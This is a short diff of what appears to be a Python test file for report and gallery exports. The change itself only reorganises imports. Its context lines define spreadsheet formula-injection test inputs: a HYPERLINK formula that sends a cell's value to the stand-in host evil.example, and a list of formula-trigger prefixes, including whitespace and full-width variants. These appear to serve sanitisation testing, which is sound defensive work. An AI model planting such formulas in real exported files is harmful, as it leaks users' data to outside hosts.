@@ -27,8 +27,8 @@ from lib.core.clock import FakeClock
 from lib.engine import Engine
 from lib.gallery import downloads as gallery_zip
 from lib.reporting import report
-from tests.test_analytics import ADMIN, NOV, add_job
-from tests.test_gallery import ALICE, add
+from tests.builders import ADMIN, ALICE, NOV, add_job
+from tests.builders import add_image as add
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
 STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", " \t+1", "＝1",
